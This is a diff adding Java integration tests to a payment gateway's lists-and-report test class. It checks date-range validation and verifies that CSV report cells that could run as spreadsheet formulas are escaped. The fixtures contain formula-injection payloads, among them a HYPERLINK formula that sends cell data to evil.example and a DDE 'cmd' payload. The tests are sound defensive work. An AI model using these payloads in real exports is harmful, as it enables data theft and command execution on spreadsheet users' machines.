@@ -155,6 +155,23 @@ class ListsAndReportTest {
         given().get("/pg/payments").then().statusCode(401);
     }
 
+    /** Issue 31: a far year overflowed the timestamp and answered 500. */
+    @Test
+    void listDatesOutsideTheYears2000To9999AsWrittenAreRefusedNamingTheField() {
+        List<String> outside = List.of("-999999999-01-01T00:00:00%2B00:00", "%2B999999999-12-31T23:59:59%2B00:00",
+                "%2B10000-01-01T00:00:00%2B00:00", "-0001-01-01T00:00:00Z", "0000-01-01T00:00:00Z",
+                "1999-12-31T23:59:59Z", "1999-12-31T23:30:00-01:00");
+        for (String list : List.of("/pg/payments", "/pg/payment/card/refunds", "/pg/disbursements")) {
+            for (String value : outside) {
+                refused(list, "from=" + value, "from");
+                refused(list, "to=" + value, "to");
+            }
+            refused(list, "from=2026-01-01T00:00:00Z&to=%2B10000-01-01T00:00:00Z", "to");
+            list(list, "from=2000-01-01T00:00:00Z&to=9999-12-31T23:59:59-05:00");
+            list(list, "to=2000-01-01T00:00:00%2B14:00");
+        }
+    }
+
     @Test
     void theDailyReportListsTheDaysMoneyMovementsAndNothingElse() throws Exception {
         String orderId = Requests.orderId();
@@ -191,6 +208,59 @@ class ListsAndReportTest {
         String empty = Refunds.get(SandboxMerchants.DEMO, "/pg/reports/transactions", "date=" + yesterday).then()
                 .statusCode(200).extract().asString();
         assertEquals("time,kind,orderId,reference,method,amount,currency,status", empty.strip());
+    }
+
+    /** Issue 31: a partnerReferenceNo, bank code or order id that a spreadsheet would run landed in the report as is. */
+    @Test
+    void reportCellsThatWouldBeFormulasStartWithAQuoteInEveryColumn() throws Exception {
+        // demo2's: the lists' tests of demo count demo's payments of the last second.
+        String orderId = "-2-3-" + UUID.randomUUID().toString().substring(0, 8);
+        String code = PaymentApi.initiate(SandboxMerchants.DEMO2, Json.write(Requests.minimal(orderId))).then()
+                .statusCode(200).extract().path("paymentCode");
+        PaymentApi.payByCard(code, "4111 1111 1111 1111").then().statusCode(303);
+        await().atMost(java.time.Duration.ofSeconds(20)).untilAsserted(() -> PaymentApi.status(SandboxMerchants.DEMO2,
+                orderId).then().statusCode(200).body("result.payment.status", equalTo("CAPTURED")));
+        String tag = UUID.randomUUID().toString().substring(0, 8);
+        List<List<String>> nasty = List.of(
+                List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" + tag, "+1+cmd|' /C calc'!A0" + tag,
+                        "@SUM(1+1)", "-1", "\t=1+1"),
+                List.of("\t=1+1;" + tag, "\r=1+1;" + tag, "=1,\"2\"", "@1", "+CAPTURED"),
+                List.of("@SUM(A1:A9)" + tag, "-" + tag, "-9", "=1", "\r=1+1"));
+        Db db = new Db(dataSource);
+        for (List<String> row : nasty) {
+            db.update("""
+                    INSERT INTO money_movement (merchant_id, occurred_at, kind, order_id, reference, method, amount,
+                        currency, status)
+                    VALUES ('demo2', now(), 'DISBURSEMENT_PAID', ?, ?, ?, 10.00, ?, ?)""",
+                    row.get(0), row.get(1), row.get(2), row.get(3), row.get(4));
+        }
+        String today = LocalDate.now(ZoneId.of("Asia/Jakarta")).toString();
+
+        String csv = Refunds.get(SandboxMerchants.DEMO2, "/pg/reports/transactions", "date=" + today).then()
+                .statusCode(200).extract().asString();
+        List<CSVRecord> rows;
+        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv))) {
+            rows = parser.getRecords();
+        }
+        CSVRecord capture = rows.stream().filter(r -> r.get("reference").equals(code)).findFirst().orElseThrow();
+        assertEquals("'" + orderId, capture.get("orderId"), "an allowed order id that reads as a formula");
+        assertEquals("CARD", capture.get("method"));
+        assertEquals("150000.00", capture.get("amount"), "numbers stay numbers");
+        for (List<String> row : nasty) {
+            CSVRecord written = rows.stream().filter(r -> r.get("reference").equals("'" + row.get(1))).findFirst()
+                    .orElseThrow(() -> new AssertionError("no row for " + row + " in\n" + csv));
+            assertEquals(List.of("'" + row.get(0), "'" + row.get(1), "'" + row.get(2), "'" + row.get(3),
+                            "'" + row.get(4)),
+                    List.of(written.get("orderId"), written.get("reference"), written.get("method"),
+                            written.get("currency"), written.get("status")));
+        }
+        assertTrue(csv.contains(",\"'=1,\"\"2\"\"\","), "RFC 4180 quoting after the quote: " + csv);
+        for (CSVRecord row : rows) {
+            for (String cell : row.values()) {
+                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + cell);
+            }
+        }
     }
 
     @Test
